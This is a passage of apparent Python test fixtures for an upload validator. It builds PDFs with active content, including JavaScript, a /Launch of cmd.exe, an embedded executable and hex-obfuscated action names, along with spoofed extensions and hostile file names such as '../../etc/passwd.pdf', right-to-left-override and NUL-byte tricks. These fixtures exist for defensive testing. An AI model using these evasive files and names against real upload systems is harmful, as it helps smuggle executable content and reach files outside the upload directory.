            "docx_packaged_program", "cv.docx", docx_with_packaged_program, code="active_content"
        ),
        Sample(
            "pdf_javascript",
            "cert.pdf",
            pdf_with(b" /Names << /JavaScript 6 0 R >>", [b"<< /Names [(a) 7 0 R] >>", action_js]),
            code="pdf_active_content",
        ),
        Sample(
            "pdf_open_action",
            "cert.pdf",
            pdf_with(b" /OpenAction 6 0 R", [b"<< /Type /Action /S /URI /URI (http://x.test) >>"]),
            code="pdf_active_content",
        ),
        Sample(
            "pdf_launch",
            "cert.pdf",
            pdf_with(b" /OpenAction << /S /Launch /F (cmd.exe) >>"),
            code="pdf_active_content",
        ),
        Sample(
            "pdf_additional_actions",
            "cert.pdf",
            pdf_with(b" /AA << /WC 6 0 R >>", [action_js]),
            code="pdf_active_content",
        ),
        Sample(
            "pdf_embedded_file",
            "cert.pdf",
            pdf_with(
                b" /Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >>",
                [pdf_stream(b"MZ payload", b" /Type /EmbeddedFile")],
            ),
            code="pdf_active_content",
        ),
        Sample(
            "pdf_hex_escaped_javascript",
            "cert.pdf",
            pdf_with(b" /OpenAct#69on 6 0 R", [b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"]),
            code="pdf_active_content",
        ),
        Sample(
            "pdf_rich_media",
            "cert.pdf",
            pdf_with(objects=[b"<< /Type /RichMediaSettings >>"]),
            code="pdf_active_content",
        ),
        Sample(
            "pdf_xfa_form",
            "cert.pdf",
            pdf_with(b" /AcroForm << /Fields [] /XFA 6 0 R >>", [pdf_stream(b"<xdp:xdp/>")]),
            code="pdf_active_content",
        ),
        Sample(
            "pdf_javascript_in_object_stream",
            "cert.pdf",
            hidden_javascript_pdf,
            code="pdf_active_content",
        ),
        Sample("pdf_encrypted_object_stream", "cert.pdf", encrypted_objstm_pdf, code="encrypted"),
        Sample(
            "pdf_without_eof",
            "cert.pdf",
            lambda: pdf_bytes()[: -len(b"%%EOF\n")],
            code="damaged",
        ),
        _renamed("pdf_as_docx", "cert.docx", "extension_mismatch", pdf_bytes),
        _renamed("jpeg_as_png", "photo.png", "extension_mismatch", jpeg_bytes),
        _renamed("docx_as_pdf", "cv.pdf", "extension_mismatch", docx_bytes),
        _good_pdf_named("name_path_traversal", "../../etc/passwd.pdf"),
        _good_pdf_named("name_absolute_path", "/etc/cert.pdf"),
        _good_pdf_named("name_windows_path", "C:\\Users\\ana\\cert.pdf"),
        _good_pdf_named("name_right_to_left_override", "invoice\u202efdp.exe"),
        _good_pdf_named("name_bidi_isolate", "cert\u2067.pdf"),
        _good_pdf_named("name_nul_byte", "cert.pdf\x00.exe"),
        _good_pdf_named("name_double_extension_exe", "cv.exe.pdf"),
        _good_pdf_named("name_double_extension_php", "a.php.jpg"),
        _good_pdf_named("name_html_after_pdf", "x.pdf.html"),
        _good_pdf_named("name_without_extension", "certificate"),
        _good_pdf_named("name_hidden_dotfile", ".htaccess"),
        _good_pdf_named("name_only_extension", ".pdf"),
        _good_pdf_named("name_empty", "   "),
    ]
